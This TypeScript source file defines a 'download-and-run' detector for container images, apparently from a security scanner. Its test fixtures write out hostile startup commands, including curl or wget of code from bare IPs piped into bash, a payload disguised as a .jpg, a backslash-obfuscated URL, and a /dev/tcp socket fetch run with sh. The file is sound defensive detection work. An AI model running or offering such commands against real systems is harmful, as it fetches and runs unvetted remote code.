import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { downloadRuns, hostileDownload } from './downloads.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { clip } from './wording.ts';

/** Code from the network, run without anybody having looked at it. */
export const downloadAndRun: Detector = {
  id: 'download-and-run',
  version: 2,
  title: 'Downloads code and runs it.',
  attack: ['T1105', 'T1059.004', 'T1204.003'],
  description: `
Many malicious images contain no malware: they fetch it when they start (\`curl … | bash\`, \`wget -O /tmp/x …; chmod +x
/tmp/x; /tmp/x\`). What runs is then not what was scanned.

*Malicious* when it has no honest reading: the code comes from a bare address, a hidden service, or an address written so
that it is not recognised; or it pretends to be a picture. *Suspicious* when an image does it at start from a named host.
A *note* for an installer piped into a shell while the image was built: bad style, but what it left behind was inspected.
`,
  fires: [
    {
      name: 'a picture piped into bash',
      image: { cmd: ['/bin/sh', '-c', 'curl -s http://203.0.113.147:8220/logo3.jpg | bash -s'] },
    },
    {
      name: 'saved, made executable, run',
      image: { cmd: ['/bin/sh', '-c', 'wget -q -O /tmp/x http://203.0.113.1/x; chmod +x /tmp/x; /tmp/x'] },
    },
    {
      name: 'an address with backslashes',
      image: { cmd: ['/bin/bash', '-c', 'curl -sk http:\\\\\\\\files.example\\\\t.sh | bash'] },
    },
    {
      name: 'through a socket of bash',
      image: {
        cmd: [
          'bash',
          '-c',
          'exec 3<>/dev/tcp/203.0.113.7/80; printf "GET /x HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 | sed "1,/^$/d" > /tmp/x; sh /tmp/x',
        ],
      },
    },
    {
      name: 'a named host, at start',
      severity: 'suspicious',
      image: { cmd: ['/bin/sh', '-c', 'curl -fsSL https://get.tool.example/run.sh | sh'] },
    },
    {
      name: 'an installer while building',
      severity: 'note',
      image: { history: ['RUN /bin/sh -c curl -fsSL https://get.tool.example/install.sh | sh # buildkit'] },
    },
  ],
  silent: [
    {
      name: 'a download that is only kept',
      image: { cmd: ['/bin/sh', '-c', 'curl -o /data/list.json https://api.example/list; exec app'] },
    },
    {
      name: 'a health check through a socket of bash',
      image: {
        cmd: [
          'bash',
          '-c',
          'exec 3<>/dev/tcp/127.0.0.1/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 > /tmp/health; grep -q 200 /tmp/health',
        ],
      },
    },
    { name: 'a health check', image: { healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] } },
    {
      name: 'an installer while building',
      severity: 'note',
      image: { history: ['RUN /bin/sh -c curl -fsSL https://get.tool.example/install.sh | sh # buildkit'] },
    },
  ],
  detect(scene) {
    return downloadRuns(scene).flatMap((download) => {
      const { run, fetch, url, traits, guessed, indirect } = download;
      if (fetch?.tool === 'git') return [];
      const hostile = hostileDownload(download);
      // Building from source is fetching, unpacking and running `./configure`.
      if (indirect && !hostile && scene.story.stages[run.stage]?.reach === 'built') return [];
      const from = url === undefined ? 'from the network' : clip(url, 120);
      const picture = traits?.picture ? ', a file that pretends not to be code,' : '';
      return findingOf(scene, sightingOf(scene, run), {
        threat: hostile ? 'hostile' : 'dual-use',
        title: `Downloads code${picture} and runs it (${from})`,
        because: hostile ?? 'What it runs is not in the image and can change at any time.',
        ...(guessed ? { confidence: 'medium' } : {}),
        ...(traits?.picture ? { attack: ['T1036.008'] } : {}),
        effects: [run.id, ...(fetch ? [fetch.id] : [])],
        evidence:
          fetch && fetch.command !== run.command
            ? [
                {
                  text: fetchText(scene, fetch.command, render(fetch.url)),
                  where: sightingOf(scene, fetch).where,
                  note: 'downloaded by',
                },
              ]
            : [],
      });
    });
  },
};

function fetchText(scene: Parameters<Detector['detect']>[0], command: number | undefined, url: string): string {
  return command === undefined ? url : (scene.story.commands[command]?.text ?? url);
}
